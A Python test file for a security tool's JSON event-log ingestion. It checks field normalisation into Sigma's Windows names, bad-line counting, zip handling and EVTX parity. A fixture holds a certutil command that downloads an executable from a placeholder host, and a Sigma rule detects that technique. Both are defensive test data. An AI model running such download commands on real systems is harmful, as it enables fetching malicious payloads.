"""JSON event input: every common export shape lands in Sigma's Windows field names, bad lines are
counted with their place, and the SigmaHQ regression JSON renderings read like their EVTX files."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

from khusela.cyber.ingest.jsonlog import normalise_document, read_json_file, read_json_stream
from khusela.cyber.sigma import ReadStats, Router, load_text, read_evtx
from tests.services import shared_data

SYSMON = "Microsoft-Windows-Sysmon/Operational"

MORDOR_LINE = {
    "SourceName": "Microsoft-Windows-Sysmon",
    "Channel": SYSMON,
    "EventID": "1",
    "Hostname": "WORKSTATION5.theshire.local",
    "EventTime": "2020-09-21 19:03:44",
    "Image": "C:\\Windows\\System32\\certutil.exe",
    "commandline": "certutil -urlcache -f http://x/a.exe a.exe",
}

ECS_DOC = {
    "@timestamp": "2024-03-01T10:00:00Z",
    "event": {"code": "1", "kind": "event"},
    "host": {"name": "ws01"},
    "winlog": {"channel": SYSMON, "event_id": 1, "event_data": {"OriginalFileName": "CertUtil.exe"}},
    "process": {
        "executable": "C:\\Windows\\System32\\certutil.exe",
        "command_line": "certutil -decode a b",
        "parent": {"executable": "C:\\Windows\\System32\\cmd.exe"},
    },
    "user": {"domain": "CORP", "name": "alice"},
    "source": {"ip": "10.0.0.5"},
    "message": "Process Create",
}

CERTUTIL_RULE = """
title: certutil download
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\\certutil.exe'
    CommandLine|contains: 'urlcache'
  condition: selection
"""


def test_mordor_flat_event_gets_windows_names_and_int_event_id() -> None:
    fields = normalise_document(dict(MORDOR_LINE))
    assert fields["EventID"] == 1
    assert fields["Computer"] == "WORKSTATION5.theshire.local"
    assert fields["Provider_Name"] == "Microsoft-Windows-Sysmon"
    assert fields["TimeCreated"] == "2020-09-21 19:03:44"
    # Field names are matched without regard to case: the odd spelling becomes the rules' spelling.
    assert str(fields["CommandLine"]).startswith("certutil")


def test_ecs_document_maps_onto_sysmon_fields() -> None:
    fields = normalise_document(json.loads(json.dumps(ECS_DOC)))
    assert fields["Channel"] == SYSMON
    assert fields["EventID"] == 1
    assert fields["Computer"] == "ws01"
    assert fields["Image"] == "C:\\Windows\\System32\\certutil.exe"
    assert fields["CommandLine"] == "certutil -decode a b"
    assert fields["ParentImage"] == "C:\\Windows\\System32\\cmd.exe"
    assert fields["User"] == "CORP\\alice"
    assert fields["SourceIp"] == "10.0.0.5"
    assert fields["OriginalFileName"] == "CertUtil.exe"  # event_data kept under its own name


def test_nested_event_system_eventdata_is_flattened_like_evtx() -> None:
    doc: dict[str, object] = {
        "Event": {
            "System": {"EventID": 4688, "Channel": "Security", "Computer": "dc1"},
            "EventData": {"NewProcessName": "C:\\x\\a.exe", "CommandLine": "a.exe /q"},
        }
    }
    fields = normalise_document(doc)
    assert fields == {
        "EventID": 4688,
        "Channel": "Security",
        "Computer": "dc1",
        "NewProcessName": "C:\\x\\a.exe",
        "CommandLine": "a.exe /q",
    }


def test_ndjson_bad_lines_are_counted_with_line_number_and_reading_goes_on() -> None:
    lines = [json.dumps(MORDOR_LINE), "{not json", "[1, 2]", "", json.dumps(MORDOR_LINE)]
    stats = ReadStats()
    records = list(read_json_stream(io.BytesIO("\n".join(lines).encode()), "t.jsonl", stats))
    assert [r.line for r in records] == [1, 5]
    assert records[0].raw == json.dumps(MORDOR_LINE)  # the original line, for evidence
    assert stats.events == 2
    assert stats.malformed_count == 2
    assert stats.errors[0].startswith("t.jsonl:2: invalid JSON")
    assert stats.errors[1] == "t.jsonl:3: not an object: list"


def test_array_and_single_object_files(tmp_path: Path) -> None:
    array = tmp_path / "events.json"
    array.write_text(json.dumps([MORDOR_LINE, ECS_DOC, 7], indent=2))
    stats = ReadStats()
    records = list(read_json_file(array, stats))
    assert [r.fields["EventID"] for r in records] == [1, 1]
    assert json.loads(records[1].raw) == ECS_DOC
    assert stats.by_reason == {"not an object": 1}
    single = tmp_path / "one.json"
    single.write_text(json.dumps(ECS_DOC, indent=2))
    assert len(list(read_json_file(single))) == 1


def test_zip_of_ndjson_skips_macos_resource_forks_and_feeds_the_router(tmp_path: Path) -> None:
    archive = tmp_path / "dataset.zip"
    with zipfile.ZipFile(archive, "w") as out:
        out.writestr("dataset.json", json.dumps(MORDOR_LINE) + "\n" + json.dumps(ECS_DOC) + "\n")
        out.writestr("__MACOSX/._dataset.json", b"\x00\x05\x16\x07 Mac OS X")
    stats = ReadStats()
    records = list(read_json_file(archive, stats))
    assert len(records) == 2
    assert stats.malformed_count == 0
    router = Router([load_text(CERTUTIL_RULE)])
    assert [bool(router.detect(r.fields)) for r in records] == [True, False]


def test_missing_file_is_reported_not_raised(tmp_path: Path) -> None:
    stats = ReadStats()
    assert list(read_json_file(tmp_path / "gone.jsonl", stats)) == []
    assert "cannot read" in stats.errors[0]


def test_regression_json_renderings_read_as_their_evtx() -> None:
    """SigmaHQ ships each regression EVTX with a JSON rendering (concatenated pretty objects)."""
    root = Path(shared_data("cyber", "sigma-regression", "regression_data", "rules", "windows"))
    folders = sorted({p.parent for p in root.rglob("*.json")})[:25]
    for folder in folders:
        from_evtx = list(read_evtx(next(folder.glob("*.evtx"))))
        stats = ReadStats()
        from_json = [r.fields for r in read_json_file(next(folder.glob("*.json")), stats)]
        assert stats.malformed_count == 0, folder
        assert from_json == from_evtx, folder
